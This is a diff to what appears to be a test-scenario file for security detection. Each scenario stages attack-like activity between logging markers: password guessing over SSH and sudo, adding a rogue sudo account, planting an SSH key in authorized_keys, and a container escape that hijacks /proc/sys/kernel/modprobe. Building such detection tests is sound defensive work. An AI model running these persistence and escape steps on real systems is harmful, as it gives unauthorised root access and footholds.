@@ -72,29 +72,29 @@ try: os.setuid(0)
 except PermissionError: pass
 sets[0] |= 128; libc.capset(head, sets); os.setuid(0)'
 ## Logins guessed, then one that worked
-#setup logins; logged
+#setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
-for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; written
+for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; end_log
 ## Sudo refused, then allowed
-#setup logins; echo 'ann ALL=(ALL) ALL' > /etc/sudoers.d/ann; chmod 440 /etc/sudoers.d/ann; logged
-for word in wrong wrong wrong right; do echo $word | setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -p '' id; done; written
+#setup prepare_sshd; echo 'ann ALL=(ALL) ALL' > /etc/sudoers.d/ann; chmod 440 /etc/sudoers.d/ann; start_log
+for word in wrong wrong wrong right; do echo $word | setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -p '' id; done; end_log
 ## Account made, then given the rights of root
-#setup logged
-useradd -m -s /bin/bash eve; usermod -aG sudo eve; written
+#setup start_log
+useradd -m -s /bin/bash eve; usermod -aG sudo eve; end_log
 ## Account made, then used
-#setup logins; logged
+#setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
-useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; written
+useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; end_log
 ## Key planted, then used
-#setup logins; logged; ssh-keygen -q -t ed25519 -N '' -f /srv/key
+#setup prepare_sshd; start_log; ssh-keygen -q -t ed25519 -N '' -f /srv/key
 /usr/sbin/sshd -f /srv/sshd
 mkdir -p /home/ann/.ssh; cat /srv/key.pub >> /home/ann/.ssh/authorized_keys; chown -R 1000:1000 /home/ann/.ssh
-ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; written
+ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; end_log
 ## Helper of the kernel named by a container, then run
 #in shop:1
 #guest no namespace keeps what the kernel starts apart
-#setup named /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
-was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; looked
+#setup stubs /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
+was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; checked
 ## Runtime's socket used, then a privileged container
 #in shop:1
 #guest a container has no more rights than who starts it, and root has not all of them everywhere
